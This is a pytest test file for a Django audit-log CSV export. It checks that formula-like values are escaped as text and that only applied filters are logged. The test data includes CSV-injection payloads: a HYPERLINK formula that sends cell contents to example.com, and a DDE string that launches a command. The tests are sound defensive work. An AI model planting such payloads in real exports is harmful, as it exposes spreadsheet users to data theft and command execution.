"""The audit trail as CSV: safe to open in a spreadsheet, and its own audit row records
the filter the server applied, nothing else from the address."""

import csv
import io

import pytest
from django.urls import reverse

from peerwell import testing
from peerwell.audit.actions import record
from peerwell.audit.models import AuditEntry

pytestmark = pytest.mark.django_db

EMAIL, REASON = 1, 8  # columns of the export


def export(client, **query):
    response = client.get(reverse("audit_export"), query)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


# Text a spreadsheet would run as a formula, and how it must come out: as text.
FORMULAS = [
    (
        '=HYPERLINK("http://example.com/"&A1,"Open")',
        '\'=HYPERLINK("http://example.com/"&A1,"Open")',
    ),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # Some spreadsheets drop leading spaces before reading a formula.
    ("  =1+1", "'  =1+1"),
]


@pytest.mark.parametrize("typed, exported", FORMULAS)
def test_a_reason_that_reads_as_a_formula_is_exported_as_text(
    as_user, org, supervisor, peer, typed, exported
):
    record(actor=peer, action="emergency", reason=typed)
    rows = export(as_user(supervisor), action="emergency")
    assert [r[REASON] for r in rows[1:]] == [exported]


def test_a_staff_email_that_reads_as_a_formula_is_exported_as_text(as_user, org, supervisor):
    sneaky = testing.make_user(org, "peer", email="=1+2@example.org")
    record(actor=sneaky, action="view")
    rows = export(as_user(supervisor), actor=sneaky.pk)
    assert [r[EMAIL] for r in rows[1:]] == ["'=1+2@example.org"]


def test_a_typed_sign_in_name_that_reads_as_a_formula_is_exported_as_text(as_user, org, supervisor):
    record(action="sign_in_failed", organization=org, detail={"email": "@cmd|' /C calc'!A0"})
    rows = export(as_user(supervisor), action="sign_in_failed")
    assert [r[EMAIL] for r in rows[1:]] == ["'@cmd|' /C calc'!A0"]


def test_ordinary_text_is_exported_unchanged(as_user, supervisor, peer, participant):
    record(actor=peer, action="emergency", obj=participant, reason="Crisis call, -5 on scale")
    rows = export(as_user(supervisor), action="emergency")
    (row,) = rows[1:]
    assert row[EMAIL] == peer.email and row[REASON] == "Crisis call, -5 on scale"
    assert row[5] == str(participant.pk)


def test_the_export_records_only_the_filter_it_applied(as_user, supervisor, participant):
    client = as_user(supervisor)
    client.get(
        reverse("audit_export"),
        {"evil": "1", "participant": participant.pk, "action": "view", "page": "3"},
    )
    entry = AuditEntry.objects.get(action="export", actor=supervisor)
    assert entry.detail == {
        "what": "audit",
        "filter": {"participant": participant.pk, "action": "view"},
    }


def test_the_export_records_the_staff_member_filtered_on_by_number(as_user, supervisor, peer):
    as_user(supervisor).get(reverse("audit_export"), {"actor": peer.pk})
    entry = AuditEntry.objects.get(action="export", actor=supervisor)
    assert entry.detail == {"what": "audit", "filter": {"actor": peer.pk}}


def test_a_filter_that_is_not_valid_is_recorded_as_none_applied(as_user, supervisor, peer):
    record(actor=peer, action="view")
    record(actor=peer, action="emergency", reason="Crisis call")
    rows = export(as_user(supervisor), participant="five", action="view")
    # Nothing was filtered, so the whole trail was exported and its row says so.
    assert {"view", "emergency"} <= {r[2] for r in rows[1:]}
    entry = AuditEntry.objects.get(action="export", actor=supervisor)
    assert entry.detail == {"what": "audit", "filter": {}}
